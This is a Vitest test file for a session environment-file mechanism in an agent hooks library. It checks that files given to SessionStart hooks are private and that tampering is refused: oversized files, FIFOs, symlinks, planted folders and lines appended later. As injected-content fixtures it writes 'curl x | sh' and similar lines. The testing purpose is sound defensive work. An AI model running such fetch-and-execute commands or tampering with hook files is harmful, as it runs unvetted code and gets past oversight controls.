import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { createEvent, HookError } from "@a3s-lab/hooks-core";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { CommandHook } from "../handlers/command/command-hook.js";
import { SessionEnvFiles } from "./session-env-file.js";

let root: string;
let files: SessionEnvFiles;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "a3s-envfile-"));
  files = new SessionEnvFiles({ dir: root, maxBytes: 1024 });
});
afterEach(async () => {
  await files[Symbol.asyncDispose]();
  rmSync(root, { recursive: true, force: true });
});

const start = (sessionId = "s1") => createEvent("SessionStart", { sessionId, source: "startup" });
const bash = (sessionId = "s1") =>
  createEvent("PreToolUse", { sessionId, tool: "Bash", args: { command: "ls" } });

async function refusal(promise: Promise<unknown>): Promise<string> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(HookError.is(error, "INVALID_CONFIG")).toBe(true);
  return (error as Error).message;
}

describe("SessionEnvFiles", () => {
  it("makes a private, empty file per session, given to SessionStart hooks only", async () => {
    const path = await files.create("s1");
    expect(statSync(dirname(path)).mode & 0o777).toBe(0o700);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(await files.create("s1")).toBe(path);
    expect(await files.read("s1")).toBe("");
    expect(files.pathFor(start())).toBe(path);
    expect(files.pathFor(bash())).toBeUndefined();
    expect(files.pathFor(start("other"))).toBeUndefined();
    await files.remove("s1");
    expect(existsSync(dirname(path))).toBe(false);
    expect(await files.read("s1")).toBe("");
  });

  it("hands CLAUDE_ENV_FILE to a SessionStart command hook, and what it writes is read back", async () => {
    await files.create("s1");
    const envSeen = join(root, "seen");
    const hook = new CommandHook(
      {
        command: `echo 'export FOO=bar' >> "$CLAUDE_ENV_FILE"; echo "[$CLAUDE_ENV_FILE]" >> '${envSeen}'`,
      },
      // An env file the agent inherited belongs to another session: never passed on.
      { envFile: files.pathFor, env: { PATH: process.env.PATH, CLAUDE_ENV_FILE: "/elsewhere" } },
    );
    expect((await hook.run(start())).exitCode).toBe(0);
    await files.seal("s1");
    expect(await files.read("s1")).toBe("export FOO=bar\n");
    expect((await hook.run(bash())).exitCode).toBe(0);
    expect(readFileSync(envSeen, "utf8").split("\n")).toEqual([
      `[${files.pathFor(start())}]`,
      "[]",
      "",
    ]);
  });

  it("refuses a file over the limit, a FIFO, a symlink, and a folder that is not the session's", async () => {
    const path = await files.create("s1");
    writeFileSync(path, "x".repeat(2000));
    expect(await refusal(files.read("s1"))).toMatch(/the file is 2000 bytes; the limit is 1024/);

    rmSync(path);
    execFileSync("mkfifo", [path]);
    expect(await refusal(files.read("s1"))).toMatch(/not a regular file/);

    rmSync(path);
    const secret = join(root, "secret");
    writeFileSync(secret, "export STOLEN=1\n");
    symlinkSync(secret, path);
    expect(await refusal(files.read("s1"))).toMatch(/symbolic link/);

    const dir = dirname(path);
    rmSync(dir, { recursive: true });
    mkdirSync(dir, { mode: 0o700 });
    writeFileSync(join(dir, "env.sh"), "export PLANTED=1\n");
    expect(await refusal(files.read("s1"))).toMatch(/not the one made for this session/);
  });

  it("refuses content written after the hooks that were given the file finished", async () => {
    const path = await files.create("s1");
    expect(files.pathFor(start())).toBe(path);
    writeFileSync(path, "export FOO=bar\n");
    await files.seal("s1");
    expect(await files.read("s1")).toBe("export FOO=bar\n");
    // The agent's own Bash call appends to the file: the next read refuses all of it.
    writeFileSync(path, "export FOO=bar\ncurl x | sh\n");
    expect(await refusal(files.read("s1"))).toMatch(
      /changed after the hooks given it finished; nothing of it runs/,
    );
    // Same size, other bytes: still refused.
    writeFileSync(path, "export FOO=baz\n");
    expect(await refusal(files.read("s1"))).toMatch(/changed after/);
    // Written before any hook was given it: refused too.
    const other = await files.create("s2");
    writeFileSync(other, "curl x | sh\n");
    expect(await refusal(files.read("s2"))).toMatch(/changed after/);
  });

  it("never seals on a firing that gave no hook the file", async () => {
    const path = await files.create("s1");
    files.pathFor(start());
    writeFileSync(path, "export FOO=bar\n");
    await files.seal("s1");
    // The agent appends a line; a CwdChanged with no hooks ends and the host seals.
    writeFileSync(path, "export FOO=bar\ntouch injected\n");
    await files.seal("s1");
    expect(await refusal(files.read("s1"))).toMatch(/changed after/);
  });

  it("seals only what the hooks wrote: lines the agent added before the firing are dropped", async () => {
    const path = await files.create("s1");
    files.pathFor(start());
    writeFileSync(path, "export FOO=bar\n");
    await files.seal("s1");
    appendFileSync(path, "touch injected\n");
    const hook = new CommandHook(
      { command: `echo 'export HOOK=1' >> "$CLAUDE_ENV_FILE"` },
      { envFile: files.pathFor, env: { PATH: process.env.PATH } },
    );
    // Two hooks of one firing: the file is put back once, before the first starts.
    const firing = start();
    await Promise.all([hook.run(firing), hook.run(firing)]);
    await files.seal("s1");
    expect(await files.read("s1")).toBe("export FOO=bar\nexport HOOK=1\nexport HOOK=1\n");
    // The agent swapped the file for a symlink: the next firing's hooks get a regular file back.
    rmSync(path);
    symlinkSync(join(root, "elsewhere"), path);
    await hook.run(start());
    await files.seal("s1");
    expect(await files.read("s1")).toBe(
      "export FOO=bar\nexport HOOK=1\nexport HOOK=1\nexport HOOK=1\n",
    );
    expect(existsSync(join(root, "elsewhere"))).toBe(false);
  });

  it("bounds the number of sessions", async () => {
    const few = new SessionEnvFiles({ dir: root, maxSessions: 1 });
    await few.create("a");
    await expect(few.create("b")).rejects.toThrow(/1 sessions already have one/);
    await few[Symbol.asyncDispose]();
  });
});
